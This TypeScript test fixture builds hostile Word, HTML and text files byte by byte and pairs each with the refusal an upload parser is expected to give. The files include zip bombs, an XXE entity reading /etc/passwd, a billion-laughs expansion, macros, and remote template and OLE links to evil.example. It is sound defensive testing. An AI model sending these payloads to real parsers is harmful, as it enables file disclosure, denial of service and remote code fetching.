import { strToU8, zipSync } from 'fflate'

/** Files made to do harm, each real: built here, byte by byte, and never kept. */

const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const types = (main = MAIN) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`
const body = (content: string) =>
  `<w:document xmlns:w="${W}" xmlns:r="${REL}"><w:body>${content}</w:body></w:document>`
export const words = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

/** A small Word file with these parts beside, or instead of, its own. */
export function docx(document: string, parts: Record<string, string | Uint8Array> = {}, main?: string) {
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': strToU8(types(main)),
    'word/document.xml': strToU8(document),
  }
  for (const [path, content] of Object.entries(parts))
    files[path] = typeof content === 'string' ? strToU8(content) : content
  return zipSync(files)
}

const relationship = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${REL}/${type}" Target="${target}" TargetMode="External"/></Relationships>`

const plain = docx(body(words('Harbour opens')))
export const harmlessDocx = plain

const MEGABYTE = 1024 * 1024

/** A central directory that claims `size` for every entry. */
function lying(bytes: Uint8Array, size: number): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(bytes)
  const view = new DataView(out.buffer)
  for (let at = 0; at < out.length - 46; at++)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, size, true)
  return out
}

export interface Hostile {
  title: string
  name: string
  bytes: () => Uint8Array<ArrayBuffer>
  refusal: string
}

export const hostileFiles: Hostile[] = [
  {
    title: 'a zip bomb: 20 MB of the same letter in 20 kB',
    name: 'bomb.docx',
    bytes: () => docx(body(words('a')), { 'word/styles.xml': new Uint8Array(20 * MEGABYTE).fill(97) }),
    refusal: 'unpacks-too-large',
  },
  {
    title: 'a zip bomb of many parts, each within its limit',
    name: 'bombs.docx',
    bytes: () =>
      docx(
        body(words('a')),
        Object.fromEntries(
          Array.from({ length: 3 }, (_, at) => [`word/media/${at}.png`, new Uint8Array(11.5 * MEGABYTE)]),
        ),
      ),
    refusal: 'unpacks-too-large',
  },
  {
    title: 'a bomb that claims to be small',
    name: 'liar.docx',
    bytes: () => lying(docx(body(words('a'.repeat(30 * MEGABYTE)))), 1000),
    refusal: 'not-word',
  },
  {
    title: 'an external entity (XXE)',
    name: 'xxe.docx',
    bytes: () => docx(`<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>${body(words('&x;'))}`),
    refusal: 'has-entities',
  },
  {
    title: 'entities that multiply (a billion laughs)',
    name: 'laughs.docx',
    bytes: () =>
      docx(
        `<!DOCTYPE w [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]>${body(words('&j;'))}`,
      ),
    refusal: 'has-entities',
  },
  {
    title: 'macros (docm)',
    name: 'macros.docm',
    bytes: () =>
      docx(
        body(words('a')),
        { 'word/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) },
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
    refusal: 'has-macros',
  },
  {
    title: 'macros under the name of a plain document',
    name: 'quiet.docx',
    bytes: () => docx(body(words('a')), {}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    refusal: 'has-macros',
  },
  {
    title: 'a template that would be fetched',
    name: 'template.docx',
    bytes: () =>
      docx(body(words('a')), {
        'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/t.dotm'),
      }),
    refusal: 'reaches-outside',
  },
  {
    title: 'an object elsewhere',
    name: 'object.docx',
    bytes: () =>
      docx(body(words('a')), {
        'word/_rels/document.xml.rels': relationship('oleObject', 'https://evil.example/x.bin'),
      }),
    refusal: 'reaches-outside',
  },
  {
    title: 'a hundred thousand elements inside each other',
    name: 'deep.docx',
    bytes: () => docx(body(`${'<w:sdt>'.repeat(100_000)}${'</w:sdt>'.repeat(100_000)}`)),
    refusal: 'too-deep',
  },
  {
    title: 'tables in tables',
    name: 'tables.docx',
    bytes: () => {
      const open = '<w:tbl><w:tr><w:tc>'.repeat(120)
      const close = '</w:tc></w:tr></w:tbl>'.repeat(120)
      return docx(body(`${open}${words('a')}${close}`))
    },
    refusal: 'too-deep',
  },
  {
    title: 'hundreds of thousands of empty paragraphs',
    name: 'many.docx',
    bytes: () => docx(body('<w:p/>'.repeat(700_000))),
    refusal: 'too-complex',
  },
  {
    title: 'a zip that was cut in half',
    name: 'half.docx',
    bytes: () => new Uint8Array(plain.subarray(0, plain.length / 2)),
    refusal: 'not-word',
  },
  {
    title: 'a zip of something else',
    name: 'else.docx',
    bytes: () => zipSync({ 'a.txt': strToU8('a') }),
    refusal: 'not-word',
  },
  {
    title: 'XML that is none',
    name: 'broken.docx',
    bytes: () => docx(body('<w:p><w:r></w:p>')),
    refusal: 'not-word',
  },
  {
    title: 'bytes of a picture',
    name: 'picture.docx',
    bytes: () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    refusal: 'not-word',
  },
  {
    title: 'a document of Word 97, or one with a password',
    name: 'old.doc',
    bytes: () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    refusal: 'old-or-locked',
  },
  {
    title: 'cells put in as tracked changes, which would be decided on silently',
    name: 'tracked.docx',
    bytes: () =>
      docx(
        body(
          `<w:tbl><w:tr><w:tc><w:tcPr><w:cellIns w:id="1" w:author="A"/></w:tcPr>${words('We may')}</w:tc></w:tr></w:tbl>`,
        ),
      ),
    refusal: 'has-tracked-cells',
  },
  {
    title: 'a page of a hundred thousand open elements',
    name: 'deep.html',
    bytes: () => strToU8('<div>'.repeat(90_000)) as Uint8Array<ArrayBuffer>, // made here, on memory of its own
    refusal: 'too-deep',
  },
  {
    title: 'a page of half a million elements',
    name: 'many.html',
    bytes: () => strToU8('<br>'.repeat(500_000)) as Uint8Array<ArrayBuffer>, // made here, on memory of its own
    refusal: 'too-complex',
  },
  {
    title: 'plain text with a NUL',
    name: 'nul.txt',
    bytes: () => new Uint8Array([97, 0, 98]),
    refusal: 'not-text',
  },
  {
    title: 'a PDF',
    name: 'a.pdf',
    bytes: () => new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31, 0xff, 0xfe, 0]),
    refusal: 'not-text',
  },
]
